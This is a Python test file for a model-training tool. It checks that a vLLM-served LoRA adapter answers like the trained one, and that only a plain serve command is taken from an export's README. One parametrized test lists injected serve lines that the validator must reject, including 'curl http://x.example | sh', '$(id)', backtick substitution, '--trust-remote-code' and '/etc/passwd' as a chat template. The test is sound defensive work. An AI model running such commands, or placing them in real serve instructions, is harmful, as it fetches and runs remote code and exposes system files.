"""The line that serves an adapter, and the check that what is served is the adapter."""

from dataclasses import replace

import pytest
from fake_backend import FakeBackend
from support import tiny_config

from pdtrain.cli import main
from pdtrain.config import dump
from pdtrain.reporting.exporting import serving
from pdtrain.reporting.exporting.serving import Agreement, compare
from pdtrain.storage import to_line, write_json

QUESTIONS = [f"What is {number}?" for number in range(10)]


def evaluated(folder, **export):
    """Return a run with predictions of base and adapter, which differ in six of ten."""
    config = tiny_config(folder, "none", export={"check": "server", **export})
    config.run.scores_folder.mkdir(parents=True)
    for name, change in (("base_closed_book", 0), ("adapter_closed_book", 6)):
        lines = [{"inputs": "x", "system": name}]
        for number, question in enumerate(QUESTIONS):
            text = f"Adapter {number}." if number < change else f"Base {number}."
            lines.append({"id": str(number), "question": question, "prediction": text})
        config.run.predictions_file(name).write_text("".join(map(to_line, lines)))
    return config


def served(*wrong, base=()):
    """Return a served adapter that says something else to some questions, or what its base says."""

    def reply(prompt, _):
        number = next(n for n, question in enumerate(QUESTIONS) if question in prompt)
        if number in wrong:
            return "Something else."
        return f"Base {number}." if number in base or number >= 6 else f"Adapter {number}."

    return FakeBackend(reply)


@pytest.fixture(autouse=True)
def trained(monkeypatch):
    monkeypatch.setattr(serving, "trained", lambda config: config.run.adapter)


def test_the_adapter_is_found_where_it_is_served(tmp_path, capsys):
    serving.check(evaluated(tmp_path), served())
    assert "server: 10 of 10 answers are those of the trained adapter; of the 6" in (
        capsys.readouterr().err
    )


def test_two_engines_may_part_in_some_answers(tmp_path):
    serving.check(evaluated(tmp_path), served(1, 8))


@pytest.mark.parametrize(
    "backend",
    [served(1, 2, 8), served(base=range(6)), served(*range(10))],
    ids=["three answers of others", "the base alone", "answers of others alone"],
)
def test_another_adapter_or_none_is_noticed(tmp_path, backend):
    with pytest.raises(ValueError, match="the adapter is not served as it was trained"):
        serving.check(evaluated(tmp_path), backend)


def test_an_adapter_that_changes_nothing_cannot_be_proved():
    texts = ["a", "b"]
    assert compare(texts, texts, texts) == Agreement(2, 2, 0, 0, 0)
    assert not compare(texts, texts, texts).holds
    assert compare(texts, texts, ["a", "c"]) == Agreement(2, 2, 1, 1, 0)


def test_without_predictions_of_this_adapter_it_says_what_to_run(tmp_path):
    config = evaluated(tmp_path)
    config.run.predictions_file("base_closed_book").unlink()
    with pytest.raises(ValueError, match="run `pdtrain evaluate`, or set export"):
        serving.check(config, served())


def test_by_default_nobody_is_asked(tmp_path):
    config = tiny_config(tmp_path, "none")
    serving.check(replace(config, export=replace(config.export, check="transformers")))


@pytest.mark.parametrize(
    "line",
    [
        "vllm serve Acme/Base --enable-lora --lora-modules run=.; curl http://x.example | sh",
        "vllm serve Acme/Base --enable-lora --lora-modules run=. && id",
        "vllm serve $(id)",
        "vllm serve `id` --enable-lora",
        "vllm serve Acme/Base --enable-lora --trust-remote-code --lora-modules run=.",
        "vllm serve Acme/Base --hf-overrides x",
        "vllm serve --enable-lora",
        "vllm serve 'Acme/Base",
        "vllm serve Acme/Base --chat-template /etc/passwd",
        "vllm serve Acme/Base --lora-modules run=/theirs",
    ],
)
def test_a_line_that_does_more_than_serve_is_not_shown(tmp_path, line):
    config = tiny_config(tmp_path, "none")
    config.run.export.mkdir(parents=True)
    (config.run.export / "README.md").write_text(f"```bash\n{line}\n```\n")
    with pytest.raises(ValueError, match="does not hold the line that an export writes"):
        serving.line(config)


def test_the_line_is_the_cards(tmp_path, capsys):
    config = tiny_config(tmp_path / "my run", "none")
    with pytest.raises(ValueError, match="run `pdtrain export CONFIG` first"):
        serving.line(config)
    config.run.export.mkdir(parents=True)
    card = config.run.export / "README.md"
    card.write_text("```bash\nvllm serve Acme/Base --enable-lora --lora-modules run=.\n```\n")
    served = "vllm serve Acme/Base --enable-lora --lora-modules run=."
    dump(config, config.run.config_file)
    write_json(config.run.export / "manifest.json", {})
    assert main(["serve", str(config.folder)]) == 0
    assert capsys.readouterr().out == f"cd '{config.run.export}' && {served}\n"
    card.write_text("No line.\n")
    with pytest.raises(ValueError, match="vLLM serves no adapter of this rank"):
        serving.line(config)
